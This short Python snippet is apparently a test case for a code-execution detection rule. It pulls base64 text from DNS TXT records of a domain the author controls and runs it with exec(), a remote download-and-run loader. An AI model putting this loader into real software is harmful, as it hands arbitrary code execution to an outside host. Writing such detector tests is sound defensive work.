import base64

import dns.resolver

# The stage lives in TXT records of a domain the author controls.
for record in dns.resolver.resolve('cfg.example-updates.net', 'TXT'):
    # ruleid: code/code-execution
    exec(base64.b64decode(b''.join(record.strings)))
